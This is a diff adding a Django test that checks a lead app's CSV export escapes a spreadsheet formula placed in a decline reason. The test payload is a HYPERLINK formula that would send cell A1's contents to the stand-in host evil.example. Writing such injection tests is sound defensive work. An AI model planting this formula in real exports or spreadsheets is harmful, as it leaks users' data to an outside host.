@@ -132,6 +132,21 @@ def test_csv_export_has_the_tables_rows_and_headers(client, world):
     assert client.get(reverse("web:dashboard-export", args=["nope"])).status_code == 404
 
 
+def test_csv_export_keeps_a_formula_in_a_decline_reason_as_text(client, world):
+    from leadhub.leads.models import LeadEvent
+
+    reason = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    lead = Lead.objects.get(pk=world.breached_lead.pk)
+    LeadEvent.objects.create(
+        lead=lead, kind="declined", at=dataset.T0, data={"rep": world.bob.pk, "reason": reason}
+    )
+    client.force_login(world.revops)
+    response = client.get(reverse("web:dashboard-export", args=["decline_reasons"]), JAN)
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + reason in cells and reason not in cells
+
+
 def test_every_table_links_its_csv_and_every_field_has_a_label(client, world):
     client.force_login(world.revops)
     html = page(client, reverse("web:dashboard"), JAN)
